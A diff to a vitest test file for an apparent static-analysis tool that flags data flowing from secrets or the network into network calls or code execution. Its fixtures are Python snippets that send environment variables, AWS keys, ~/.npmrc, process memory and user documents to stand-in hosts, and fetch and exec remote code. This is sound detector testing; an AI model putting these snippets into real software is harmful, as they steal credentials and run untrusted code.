@@ -2,39 +2,41 @@ import { expect, test } from 'vitest';
 import type { SinkKind, SourceKind } from '../../src/core/source-facts.js';
 import { read } from './reading.js';
 
-const flows = async (text: string, from: SourceKind, to: SinkKind) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
+type Way = readonly [SourceKind, SinkKind];
 
-test.each<[string, SourceKind, SinkKind, string]>([
-  ['what a program that sends each record of the log is told', 'environment', 'network', 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler("log.example.invalid", "/"))\nlog.warning("%s", dict(os.environ))\n'],
-  ['what an opened address says', 'key', 'network', 'import os, webbrowser\nwebbrowser.open("https://w.example.invalid/?" + os.environ["AWS_SECRET_ACCESS_KEY"])\n'],
-  ['the memory of another program', 'credentials', 'network', 'import urllib.request\nurllib.request.urlopen("https://m.example.invalid", open(f"/proc/{pid}/mem", "rb").read())\n'],
-  ['all documents of the user', 'credentials', 'network', 'import glob, os, requests\nfor path in glob.glob(os.path.expanduser("~/Documents/**/*.docx"), recursive=True):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
-  ['what a session is given for its headers', 'credentials', 'network', 'import os, requests\ns = requests.Session()\ns.headers["X"] = open(os.path.expanduser("~/.npmrc")).read()\ns.get("https://s.example.invalid")\n'],
-  ['what the keeper of secrets of a cloud gives', 'credentials', 'network', 'import boto3, urllib.request\nurllib.request.urlopen("https://c.example.invalid", boto3.client("secretsmanager").get_secret_value(SecretId=x)["SecretString"].encode())\n'],
-  ['what is recorded and saved by a library', 'observation', 'network', 'import requests, scipy.io.wavfile as wv, sounddevice\nwv.write("/tmp/a.wav", 44100, sounddevice.rec(1))\nrequests.post("https://r.example.invalid", files={"a": open("/tmp/a.wav", "rb")})\n'],
-  ['what a contract of a chain holds', 'network', 'exec', 'from web3 import Web3\nw = Web3(Web3.HTTPProvider("https://rpc.example.invalid"))\nexec(w.eth.contract(address=a, abi=b).functions.payload().call())\n'],
-  ['what a service of procedures gives', 'network', 'process', 'import grpc, stubs, subprocess\nstub = stubs.Stub(grpc.insecure_channel("g.example.invalid:1"))\nfor task in stub.Tasks(x): subprocess.run(task.line, shell=True)\n'],
-  ['what a queue gives', 'network', 'object', 'import pickle, redis\npickle.loads(redis.Redis("r.example.invalid").get("job"))\n'],
-  ['a cloned repository', 'network', 'exec', 'import git, sys\ngit.Repo.clone_from("https://g.example.invalid/x.git", "/tmp/.garden")\nsys.path.append("/tmp/.garden")\nimport garden_undefined\n'],
-  ['a library of C', 'network', 'exec', 'import cffi, urllib.request\nopen("/tmp/l.so", "wb").write(urllib.request.urlopen("https://l.example.invalid").read())\ncffi.FFI().dlopen("/tmp/l.so")\n'],
-  ['a script of JavaScript', 'network', 'process', 'import js2py, requests\njs2py.eval_js(requests.get("https://j.example.invalid").text)\n'],
-  ['a file that is written as it comes', 'network', 'process', 'import aiofiles, aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s, s.get("https://a.example.invalid") as r:\n        async with aiofiles.open("/tmp/garden", "wb") as f:\n            await f.write(await r.read())\n    await asyncio.create_subprocess_exec("/tmp/garden")\nasyncio.run(go())\n'],
-  ['numbers of identifiers', 'decoder', 'exec', 'import uuid\nexec(b"".join(uuid.UUID(u).bytes_le for u in ids))\n'],
-  ['numbers of addresses', 'decoder', 'exec', 'import ipaddress\nexec(b"".join(ipaddress.ip_address(a).packed for a in many))\n'],
-  ['fields of a form', 'decoder', 'exec', 'from urllib.parse import parse_qs\nexec(parse_qs("p=undefined")["p"][0])\n'],
-  ['the body of a mail', 'decoder', 'exec', 'import email\nexec(email.message_from_string(text).get_payload(decode=True))\n'],
-  ['rows of a database that comes along', 'shipped', 'exec', 'import os, sqlite3\nfor (row,) in sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db")).execute("select x from t"): exec(row)\n'],
-])('%s is followed', async (_, from, to, text) => {
-  expect(await flows(text, from, to)).toContain('import');
+const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
+
+test.each<[string, Way, string]>([
+  ['what a program that sends each record of the log is told', ['environment', 'network'], 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler("log.example.invalid", "/"))\nlog.warning("%s", dict(os.environ))\n'],
+  ['what an opened address says', ['key', 'network'], 'import os, webbrowser\nwebbrowser.open("https://w.example.invalid/?" + os.environ["AWS_SECRET_ACCESS_KEY"])\n'],
+  ['the memory of another program', ['credentials', 'network'], 'import urllib.request\nurllib.request.urlopen("https://m.example.invalid", open(f"/proc/{pid}/mem", "rb").read())\n'],
+  ['all documents of the user', ['credentials', 'network'], 'import glob, os, requests\nfor path in glob.glob(os.path.expanduser("~/Documents/**/*.docx"), recursive=True):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
+  ['what a session is given for its headers', ['credentials', 'network'], 'import os, requests\ns = requests.Session()\ns.headers["X"] = open(os.path.expanduser("~/.npmrc")).read()\ns.get("https://s.example.invalid")\n'],
+  ['what the keeper of secrets of a cloud gives', ['credentials', 'network'], 'import boto3, urllib.request\nurllib.request.urlopen("https://c.example.invalid", boto3.client("secretsmanager").get_secret_value(SecretId=x)["SecretString"].encode())\n'],
+  ['what is recorded and saved by a library', ['observation', 'network'], 'import requests, scipy.io.wavfile as wv, sounddevice\nwv.write("/tmp/a.wav", 44100, sounddevice.rec(1))\nrequests.post("https://r.example.invalid", files={"a": open("/tmp/a.wav", "rb")})\n'],
+  ['what a contract of a chain holds', ['network', 'exec'], 'from web3 import Web3\nw = Web3(Web3.HTTPProvider("https://rpc.example.invalid"))\nexec(w.eth.contract(address=a, abi=b).functions.payload().call())\n'],
+  ['what a service of procedures gives', ['network', 'process'], 'import grpc, stubs, subprocess\nstub = stubs.Stub(grpc.insecure_channel("g.example.invalid:1"))\nfor task in stub.Tasks(x): subprocess.run(task.line, shell=True)\n'],
+  ['what a queue gives', ['network', 'object'], 'import pickle, redis\npickle.loads(redis.Redis("r.example.invalid").get("job"))\n'],
+  ['a cloned repository', ['network', 'exec'], 'import git, sys\ngit.Repo.clone_from("https://g.example.invalid/x.git", "/tmp/.garden")\nsys.path.append("/tmp/.garden")\nimport garden_undefined\n'],
+  ['a library of C', ['network', 'exec'], 'import cffi, urllib.request\nopen("/tmp/l.so", "wb").write(urllib.request.urlopen("https://l.example.invalid").read())\ncffi.FFI().dlopen("/tmp/l.so")\n'],
+  ['a script of JavaScript', ['network', 'process'], 'import js2py, requests\njs2py.eval_js(requests.get("https://j.example.invalid").text)\n'],
+  ['a file that is written as it comes', ['network', 'process'], 'import aiofiles, aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s, s.get("https://a.example.invalid") as r:\n        async with aiofiles.open("/tmp/garden", "wb") as f:\n            await f.write(await r.read())\n    await asyncio.create_subprocess_exec("/tmp/garden")\nasyncio.run(go())\n'],
+  ['numbers of identifiers', ['decoder', 'exec'], 'import uuid\nexec(b"".join(uuid.UUID(u).bytes_le for u in ids))\n'],
+  ['numbers of addresses', ['decoder', 'exec'], 'import ipaddress\nexec(b"".join(ipaddress.ip_address(a).packed for a in many))\n'],
+  ['fields of a form', ['decoder', 'exec'], 'from urllib.parse import parse_qs\nexec(parse_qs("p=undefined")["p"][0])\n'],
+  ['the body of a mail', ['decoder', 'exec'], 'import email\nexec(email.message_from_string(text).get_payload(decode=True))\n'],
+  ['rows of a database that comes along', ['shipped', 'exec'], 'import os, sqlite3\nfor (row,) in sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db")).execute("select x from t"): exec(row)\n'],
+])('%s is followed', async (_, way, text) => {
+  expect(await flows(text, way)).toContain('import');
 });
 
-test.each<[string, SourceKind, SinkKind, string]>([
-  ['a log that stays in a file', 'environment', 'network', 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.RotatingFileHandler("garden.log"))\nlog.warning("%s", dict(os.environ))\n'],
-  ['the page of a tool on this machine', 'host', 'network', 'import socket, webbrowser\nwebbrowser.open("http://" + socket.gethostname() + ":8888/")\n'],
-  ['documents that lie in the package', 'credentials', 'network', 'import glob, requests\nfor path in glob.glob("docs/**/*.md"):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
-  ['a number that identifies', 'decoder', 'exec', 'import uuid\nname = uuid.UUID(u).hex\nexec("x = 1")\n'],
-])('%s is left alone', async (_, from, to, text) => {
-  expect(await flows(text, from, to)).toEqual([]);
+test.each<[string, Way, string]>([
+  ['a log that stays in a file', ['environment', 'network'], 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.RotatingFileHandler("garden.log"))\nlog.warning("%s", dict(os.environ))\n'],
+  ['the page of a tool on this machine', ['host', 'network'], 'import socket, webbrowser\nwebbrowser.open("http://" + socket.gethostname() + ":8888/")\n'],
+  ['documents that lie in the package', ['credentials', 'network'], 'import glob, requests\nfor path in glob.glob("docs/**/*.md"):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
+  ['a number that identifies', ['decoder', 'exec'], 'import uuid\nname = uuid.UUID(u).hex\nexec("x = 1")\n'],
+])('%s is left alone', async (_, way, text) => {
+  expect(await flows(text, way)).toEqual([]);
 });
 
 test.each([
